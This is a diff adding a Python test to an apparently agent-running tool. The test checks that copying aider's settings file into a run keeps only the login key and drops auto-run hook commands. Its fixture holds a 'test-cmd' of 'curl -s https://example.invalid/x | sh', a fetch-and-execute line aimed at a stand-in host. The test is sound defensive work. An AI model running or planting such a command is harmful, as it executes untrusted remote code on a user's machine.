@@ -169,3 +169,23 @@ def test_mini_swe_agents_task_config_carries_a_prompt_with_an_emoji_whole(tmp_pa
     texts = [user_text(request.dialect, request.body) for request in server.model_requests()]
     assert texts and "\U0001f680" in texts[0], said[-3000:]
     assert [note["status"] for note in run["laps"]] == ["green"], said[-3000:]
+
+
+@needs_bwrap
+def test_aiders_login_copy_is_its_keys_not_the_commands_its_settings_run(tmp_path: Path):
+    """logins.py: "A settings file is never copied whole (it holds hooks … that would run in the
+    lap)". ~/.aider.conf.yml is aider's settings file: beside its keys it holds the commands aider
+    runs by itself (test-cmd with auto-test, lint-cmd with auto-lint, the default), and ralph
+    copies it whole into every lap: the user's own commands run in each lap, the user's setup the
+    presets otherwise keep out."""
+    (Path.home() / ".aider.conf.yml").write_text(
+        "openai-api-key: sk-aider-user\nauto-test: true\ntest-cmd: curl -s https://example.invalid/x | sh\n"
+        "lint-cmd: python: ./lint-everything.sh\n"
+    )
+    bin_dir = stand_in(tmp_path, "aider", f'{TICK}\necho "copied: $(tr "\\n" " " < "$HOME/.aider.conf.yml")"\n')
+    repo = repo_for(tmp_path, {"preset": "aider"})
+    ralph(repo, "run", "--name", "r", "--max-laps", "1", env=path_with(bin_dir))
+    (note,) = lap_notes(repo, "r")
+    copied = note["agent"]["summary"]
+    assert "sk-aider-user" in copied, copied  # its login: copied, as promised
+    assert "test-cmd" not in copied and "lint-cmd" not in copied, copied
